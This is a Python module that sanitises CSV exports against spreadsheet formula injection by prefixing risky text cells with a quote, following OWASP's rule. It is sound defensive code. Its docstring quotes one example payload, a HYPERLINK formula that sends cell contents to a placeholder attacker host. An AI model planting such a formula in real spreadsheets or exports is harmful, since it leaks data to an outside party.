"""CSV that is safe to open in a spreadsheet: every CSV crimecast writes goes through here.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read by Excel, LibreOffice and Google Sheets as a formula, so a crafted place
name such as ``=HYPERLINK("http://evil.example/?x="&A1,"Central")`` would run
when an analyst opens a patrol-box export. Following OWASP's rule for CSV
injection, such cells are prefixed with a single quote, which spreadsheets show
as text. Plain numbers written as text (``-118.25``) are left alone, and numeric
columns are never touched.
"""

from __future__ import annotations

from pathlib import Path
from typing import IO, Any

import polars as pl

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Prefix ``'`` to every text cell a spreadsheet would run as a formula."""
    text = [name for name, dtype in frame.schema.items()
            if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(_FORMULA_START)
                & ~pl.col(name).cast(pl.String).str.contains(_PLAIN_NUMBER))
        .then(pl.lit("'") + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text)


def write_csv(frame: pl.DataFrame, target: Path | IO[bytes] | None = None,
              **options: Any) -> str | None:
    """Write ``frame`` as spreadsheet-safe CSV to ``target`` (or return the text).

    ``options`` pass through to :meth:`polars.DataFrame.write_csv` (``compression``…).
    """
    safe = neutralise_formulas(frame)
    if target is None:
        return safe.write_csv(**options)
    safe.write_csv(target, **options)
    return None
